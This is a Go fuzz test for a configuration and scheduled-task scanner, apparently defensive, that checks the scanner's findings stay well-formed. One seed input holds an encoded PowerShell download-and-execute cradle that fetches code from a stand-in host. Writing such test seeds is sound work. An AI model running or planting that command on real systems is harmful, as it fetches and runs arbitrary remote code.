package serverconfig

import (
	"strings"
	"testing"
)

func FuzzRead(f *testing.F) {
	for _, s := range []string{hostConfig(native("x", `C:\Temp\x.dll`), application("/a", `C:\ProgramData\COM1`), ""), agentConfig(agent("a", "b", "c")), task("powershell", "-enc "+encodedCommand("iex (New-Object Net.WebClient).DownloadString('http://a.example')")), "<configuration><system.web><a", `<Task xmlns="` + taskSpace + `"><Actions><Exec><Command>`} {
		f.Add([]byte(s), `C:\Windows\System32\Tasks\x`)
		f.Add(wide(s), "x.config")
	}
	f.Fuzz(func(t *testing.T, content []byte, path string) {
		c := Read(content)
		if c == nil {
			return
		}
		if n := len(c.Sites) + len(c.Folders) + len(c.Natives) + len(c.Managed) + len(c.Filters) + len(c.Handlers) + len(c.Keys) + len(c.Silenced) + len(c.Agents) + len(c.Tasks); n > c.Entries || c.Entries > maxEntries {
			t.Fatalf("%d kept of %d entries", n, c.Entries)
		}
		lines := int64(strings.Count(string(content), "\n")) + 1
		for _, n := range c.Judge(path) {
			if n.Why == "" || n.Title == "" || n.Rule == "" || n.Line < 1 || n.Line > lines {
				t.Fatalf("note %+v of a file of %d lines", n, lines)
			}
		}
	})
}
